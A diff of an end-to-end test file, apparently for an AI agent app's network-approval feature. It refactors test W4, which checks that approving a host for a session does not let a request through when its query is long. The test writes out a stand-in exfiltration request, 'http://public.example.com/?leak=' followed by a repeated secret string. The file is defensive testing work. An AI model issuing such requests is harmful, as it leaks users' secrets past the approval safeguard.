@@ -4,7 +4,7 @@ import { textOf } from '../../shared/tool-results'
 import { expect, type HostileApp, type Stage, test } from '../helpers/hostile-app'
 import { setNetwork } from '../helpers/hostile-watch'
 import { modelServer } from '../helpers/model-server'
-import { card, timeline } from './person'
+import { allowFromNowOn, card, timeline } from './person'
 
 /** A public address; the app is watched, so that a server of this computer stands for it. */
 const PUBLIC = '93.184.215.14'
@@ -257,10 +257,7 @@ test('W4: what the person allowed for a host does not let a long query through',
   const { attempt, stop } = await stage()
   const { page } = hostile
   await attempt(fetching('http://public.example.com/'))
-  await card(page)
-    .getByRole('button', { name: /^Approve for this session/ })
-    .click()
-  await page.getByRole('menuitem').first().click()
+  await allowFromNowOn(card(page), /public\.example\.com/, 'In this session')
   await expect(timeline(page)).toContainText('Over.')
   expect(statuses(await attempt(fetching('http://public.example.com/short')))).toEqual(['failed'])
   const [call] = await attempt(fetching(`http://public.example.com/?leak=${'s3cret'.repeat(100)}`))
